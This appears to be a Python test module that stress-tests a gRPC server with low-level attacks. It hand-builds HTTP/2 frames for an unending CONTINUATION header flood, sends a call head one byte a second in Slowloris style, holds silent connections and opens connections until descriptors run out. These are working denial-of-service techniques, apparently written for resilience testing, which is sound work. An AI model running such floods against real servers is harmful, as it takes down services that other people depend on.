"""Attacks below gRPC: sockets that say nothing, little, or HTTP/2 frames that no client sends."""

import asyncio
import contextlib
import errno
import socket
import time
from collections.abc import Awaitable, Callable

from tests.strangers.attack import Attack

HELD_MAX = 4_000  # of the 20,000 descriptors that a process may have here
_HEADERS, _SETTINGS, _PING, _CONTINUATION = 1, 4, 6, 9
_ACK = 1
_FRAME_BYTES = 16_000  # of the 16,384 that HTTP/2 takes without asking
# What gRPC takes of a header block before its peer has acknowledged its settings: 16 MiB, as HTTP/2 counts them.
_BLOCK_BYTES = 16 * 1024 * 1024 - 4096
_FIELD_BYTES = 33  # how HTTP/2 counts a name of one letter without a value
_STEP_S = 1.0

_Connection = tuple[asyncio.StreamReader, asyncio.StreamWriter]


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Return one HTTP/2 frame."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def field(name: bytes, value: bytes, kind: int = 0x00) -> bytes:
    """Return a header field as HPACK has it, in letters; ``kind`` 0x40 puts it into the table."""
    return bytes((kind, len(name))) + name + bytes((len(value),)) + value


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(_SETTINGS, 0, 0, b"")
CALL = (
    b"\x83\x86"  # POST, http
    + field(b":path", b"/grpc.health.v1.Health/Check")
    + field(b":authority", b"stranger")
    + field(b"te", b"trailers")
    + field(b"content-type", b"application/grpc")
)


def endless_block(fields: int = _BLOCK_BYTES // _FIELD_BYTES) -> bytes:
    """Return a header block of so many small fields, a byte each on the wire, which does not end."""
    frames = [frame(_HEADERS, 0, 1, CALL + field(b"a", b"", 0x40))]  # which is number 62 of the table from now on
    for done in range(0, fields, _FRAME_BYTES):
        frames.append(frame(_CONTINUATION, 0, 1, b"\xbe" * min(_FRAME_BYTES, fields - done)))
    return b"".join(frames)


async def continuations(attack: Attack) -> None:
    """Begin header blocks of very many fields, and never end them, nor acknowledge the server's settings."""
    block = PREFACE + endless_block()

    async def one(connection: _Connection) -> None:
        reader, writer = connection
        writer.write(block)
        await writer.drain()
        attack.seen["blocks"] += 1
        while await reader.read(65536):  # no frame, nor an answer to a ping, may come within a header block
            pass

    await _over_and_over(attack, one)


async def slow_calls(attack: Attack) -> None:
    """Send the head of a call byte by byte, a byte a second."""
    head = frame(_HEADERS, 4, 1, CALL)

    async def one(connection: _Connection) -> None:
        reader, writer = connection
        writer.write(PREFACE + frame(_SETTINGS, _ACK, 0, b""))
        pings = asyncio.create_task(_answer_pings(reader, writer), name="pings")
        try:
            for byte in head:
                writer.write(bytes((byte,)))
                await writer.drain()
                done, _ = await asyncio.wait((pings,), timeout=_STEP_S)
                if done:
                    return
        finally:
            pings.cancel()

    await _over_and_over(attack, one)


async def silent(attack: Attack) -> None:
    """Open connections and send nothing."""

    async def one(connection: _Connection) -> None:
        while await connection[0].read(65536):
            pass

    await _over_and_over(attack, one)


async def connections(attack: Attack) -> None:
    """Open connections, ``number`` of them a second, and hold them until there is no room for more."""
    held: list[socket.socket] = []
    each_s = 1.0 / attack.number
    at_s = time.monotonic()
    while attack.lasts:
        connection = socket.socket()
        connection.setblocking(False)
        try:
            error = connection.connect_ex(attack.place)
        except OSError as refused:
            error = refused.errno or errno.EIO
        attack.seen["opened" if error in (0, errno.EINPROGRESS) else "failed"] += 1
        held.append(connection)
        if len(held) > HELD_MAX:
            held.pop(0).close()
        at_s += each_s
        if at_s > time.monotonic():
            attack.ready()
            await asyncio.sleep(at_s - time.monotonic())
    for connection in held:
        connection.close()


async def _over_and_over(attack: Attack, one: Callable[[_Connection], Awaitable[None]]) -> None:
    """Have ``number`` connections that do ``one``, each opened again when the server ends it."""
    opened = 0

    async def keep() -> None:
        nonlocal opened
        first = True
        while attack.lasts:
            writer = None
            try:
                connection = await asyncio.open_connection(*attack.place)
                writer = connection[1]
                attack.seen["opened"] += 1
                opened += first
                first = False
                if opened == attack.number:
                    attack.ready()
                await one(connection)
                attack.seen["closed by the server"] += 1
            except OSError:
                attack.seen["refused"] += 1
                await asyncio.sleep(0.1)
            finally:
                if writer is not None:
                    writer.close()

    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout_at(asyncio.get_running_loop().time() + attack.until_s - time.monotonic()):
            async with asyncio.TaskGroup() as group:
                for number in range(attack.number):
                    group.create_task(keep(), name=f"connection-{number}")
                group.create_task(_ready_soon(attack), name="ready")


async def _ready_soon(attack: Attack) -> None:
    """An attack that the server does not let unfold runs in full, too."""
    await asyncio.sleep(5.0)
    attack.ready()


async def _answer_pings(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Answer the server's pings, so that it holds us for alive, until it ends the connection."""
    with contextlib.suppress(asyncio.IncompleteReadError):
        while True:
            head = await reader.readexactly(9)
            payload = await reader.readexactly(int.from_bytes(head[:3], "big"))
            if head[3] == _PING and not head[4] & _ACK:
                writer.write(frame(_PING, _ACK, 0, payload))
